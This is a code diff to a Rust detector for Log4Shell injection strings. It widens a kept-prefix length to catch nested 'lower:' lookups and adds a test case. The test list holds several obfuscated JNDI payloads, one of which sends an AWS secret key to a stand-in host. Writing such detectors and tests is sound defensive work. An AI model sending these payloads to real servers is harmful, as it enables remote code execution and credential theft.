@@ -10,8 +10,9 @@ use super::Meter;
 
 /// Nesting deeper than this is read as text (Log4j itself stops recursing far earlier).
 const MAX_DEPTH: usize = 8;
-/// How much of a resolved name is kept: enough for `jndi:`.
-const KEEP: usize = 8;
+/// How much of a resolved text is kept: enough for `jndi:` behind a lookup's own name
+/// (`lower:` + `jndi:`, nested: `${lower:${lower:jndi}}:`).
+const KEEP: usize = 16;
 
 #[inline(never)] // See `detect` in mod.rs.
 pub(crate) fn detect(s: &str, meter: &mut Meter) -> Option<usize> {
@@ -140,6 +141,7 @@ mod tests {
             "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
             "User-Agent: ${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/a}",
             "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}",
+            "${${lower:${lower:jndi}}:${lower:rmi}://x/a}",
         ] {
             assert!(hit(s), "{s}");
         }
